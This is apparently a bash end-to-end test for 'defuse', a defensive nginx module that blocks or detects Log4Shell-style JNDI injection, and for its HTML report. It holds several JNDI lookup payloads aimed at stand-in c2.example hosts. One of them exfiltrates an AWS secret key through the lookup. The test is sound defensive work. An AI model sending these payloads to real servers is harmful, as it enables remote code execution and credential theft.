#!/usr/bin/env bash
# report_nginx.sh -- `defuse report` over the defuse_log of Debian's real
# nginx with ngx_http_defuse_module (issue 14, Edge section): requests with
# payloads in block and detect locations and a body past defuse_body_limit
# (a partial-scan line); the page's nginx blocked / detected / passed
# counts, its findings and callback hosts must equal what the defuse_log
# holds, counted here in Python.  No browser needed: the numbers are read
# from the page's data-n attributes with Python's HTML parser.
. "$DEFUSE_SRC/nginx/e2e_lib.bash"
ngx_init

echo hello >"$T/html/index.html"
ngx_conf '
    server {
        listen 127.0.0.1:@PORT@;
        root @T@/html;
        defuse on;
        defuse_log @T@/logs/defuse.jsonl;
        location /detect/ { defuse_mode detect; return 200 "ok"; }
        location = /many { defuse_body_limit 1m; return 200 "many-ok"; }
        location / { defuse_mode block; return 200 "ok"; }
    }'
ngx_start || { fail "nginx did not start"; ngx_finish; exit 1; }

expect 403 "block: JNDI in User-Agent" / -A '${jndi:ldap://ua.c2.example:1389/a}'
expect 403 "block: JNDI in the query" '/?q=%24%7Bjndi%3Armi%3A%2F%2Fq.c2.example%3A1099%2Fb%7D'
expect 403 "block: exfiltration" / -H 'X-Api-Version: ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.ex.c2.example/c}'
expect 200 "detect: JNDI in User-Agent" /detect/ -A '${jndi:ldap://det.c2.example:1389/d}'
expect 200 "detect: a recon lookup" /detect/ -A '${env:USER}'
# more parameters than Tomcat reads (and a "%24" that makes nginx parse them):
# a params_limit line, passed
python3 -c "print('q=%24&' + '&'.join('p%d=x' % i for i in range(10050)))" >"$T/many.txt"
expect 200 "many parameters: passed, partially scanned" /many --data-binary "@$T/many.txt"
sleep 0.2
[ -s "$T/logs/defuse.jsonl" ] || { fail "no defuse_log written"; ngx_finish; exit 1; }

"$DEFUSE" report -o "$T/report.html" --now 2030-01-01T00:00:00Z "$T/logs/defuse.jsonl" \
    2>"$T/report.err" || fail "defuse report exited $? ($(cat "$T/report.err"))"

python3 - "$T/logs/defuse.jsonl" "$T/report.html" >"$T/check.out" 2>&1 <<'EOF'
import collections, html.parser, json, sys
acts = collections.Counter(); findings = 0; kinds = collections.Counter(); hosts = collections.Counter()
for l in open(sys.argv[1]):
    o = json.loads(l)
    acts[o["action"]] += 1
    if o.get("kind"):
        findings += 1; kinds[o["kind"]] += 1
        if o.get("host"): hosts[o["host"]] += 1
class P(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(); self.ids = {}; self.table = None; self.rows = []; self.cell = None
    def handle_starttag(self, tag, a):
        a = dict(a)
        if "id" in a and "data-n" in a: self.ids[a["id"]] = int(a["data-n"])
        if tag == "table": self.table = a.get("id")
        if self.table == "callback-hosts" and tag == "td":
            self.cell = a.get("class"); self.val = "" if self.cell == "v" else None
            if self.cell == "n": self.rows[-1][1] = int(a["data-n"])
    def handle_endtag(self, tag):
        if tag == "table": self.table = None
        if self.table == "callback-hosts" and tag == "td" and self.cell == "v":
            self.rows.append([self.val, 0])
        if tag == "td": self.cell = None
    def handle_data(self, d):
        if self.cell == "v": self.val += d
p = P(); p.feed(open(sys.argv[2]).read())
want = {"n-findings": findings, "n-nginx-blocked": acts["block"], "n-nginx-detected": acts["detect"],
        "n-nginx-passed": acts["pass"]}
for k in ("jndi", "lookup"):
    want["n-kind-" + k] = kinds[k]
bad = [(k, p.ids.get(k), v) for k, v in want.items() if p.ids.get(k) != v]
page_hosts = {h.replace("[.]", ".").replace("$\\{", "${"): n for h, n in p.rows}
if page_hosts != dict(hosts):
    bad.append(("callback-hosts", page_hosts, dict(hosts)))
print("defuse_log: %d lines, actions %s, findings %d" % (sum(acts.values()), dict(acts), findings))
for b in bad:
    print("FAIL: %s: page %r, defuse_log %r" % b)
sys.exit(1 if bad or not acts["block"] or not acts["detect"] or not acts["pass"] else 0)
EOF
rc=$?
cat "$T/check.out"
if [ $rc = 0 ]; then
    pass "the page's nginx counts, findings and callback hosts equal the defuse_log"
else
    fail "the page disagrees with the defuse_log"
fi
ngx_finish
